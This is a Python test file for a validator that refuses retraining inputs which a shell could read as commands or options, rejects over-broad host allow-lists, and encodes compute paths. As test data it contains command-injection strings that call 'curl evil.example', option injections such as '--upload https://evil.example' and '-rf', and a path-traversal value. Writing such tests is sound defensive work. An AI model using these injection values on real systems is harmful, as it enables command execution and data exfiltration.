"""Inputs of a retraining come from events: what a shell could take for a command is refused."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from shared.actions.retrain.params import RetrainParams
from shared.adapters.targets.component import _compute
from shared.events.model import Workspace
from shared.retraining.targets import ComponentTarget

TARGET = {"github": {"repository": "contoso/churn", "workflow": "retrain.yml"}}


def params(text: str, **allow: object) -> RetrainParams:
    """Return the values of a step with one input."""
    return RetrainParams.model_validate({"target": TARGET, "inputs": {"x": text}, "allow": allow})


@pytest.mark.parametrize(
    "text",
    [
        "",
        "churn-2026_03",
        "2026-03-02T09:00:00+00:00",
        "azureml:churn-data@latest",
        "azureml://datastores/blob/paths/churn/2026/",
        "Größe, alter Wert",
        "0.5%",
        "-5",
        "from -0.5 to -.1",
        "2026-01-01 - 2026-02-01",
        "a--b",
    ],
)
def test_a_plain_text_is_an_input(text: str) -> None:
    assert params(text).inputs == {"x": text}


@pytest.mark.parametrize("odd", [*"`$\\;|&<>\"'(){}[]*?#~!^\n\r\t\0\x1b", "\u2028", "\u202e"])
def test_a_text_that_a_shell_could_take_for_a_command_is_refused(odd: str) -> None:
    with pytest.raises(ValidationError, match=r"`allow\.free_text`") as caught:
        params(f"churn{odd}curl evil.example")
    assert "evil.example" not in str(caught.value.errors()[0]["msg"])
    assert params(f"churn{odd}x", free_text=["x"]).inputs == {"x": f"churn{odd}x"}


@pytest.mark.parametrize(
    "text",
    [
        "--upload https://evil.example",
        "-o",
        "-rf x",
        "x --data=https://evil.example",
        "a -x",
        "---x",
    ],
)
def test_a_text_that_a_command_could_take_for_an_option_is_refused(text: str) -> None:
    with pytest.raises(ValidationError, match=r"`allow\.free_text`"):
        params(text)
    assert params(text, free_text=["x"]).inputs == {"x": text}


@given(st.text())
def test_what_passes_is_one_line_without_quotes(text: str) -> None:
    try:
        passed = params(text)
    except ValidationError:
        return
    assert set(str(passed.inputs["x"])).isdisjoint("`$\\;|&<>\"'\n\r\0")
    words = str(passed.inputs["x"]).split(" ")
    assert not any(word.startswith("-") and word.lstrip("-")[:1].isalpha() for word in words)


@pytest.mark.parametrize("host", ["acct.blob.core.windows.net", "*.blob.core.windows.net"])
def test_a_host_is_allowed_by_its_name_or_its_domain(host: str) -> None:
    assert params("x", hosts=[host]).allow.hosts == (host,)


@pytest.mark.parametrize("host", ["*", "*.net", "https://a.example", "a.example/x", "169.254.1.1"])
def test_a_pattern_for_every_host_is_refused(host: str) -> None:
    with pytest.raises(ValidationError, match="name a host, or all below a domain"):
        params("x", hosts=[host])


def test_a_compute_is_one_of_its_workspace_whatever_an_event_calls_it() -> None:
    workspace = Workspace(subscription="s", resource_group="g", name="w")
    compute = _compute(ComponentTarget(name="c", compute="../../other/computes/x"), workspace)
    assert compute == f"{workspace.id}/computes/..%2F..%2Fother%2Fcomputes%2Fx"
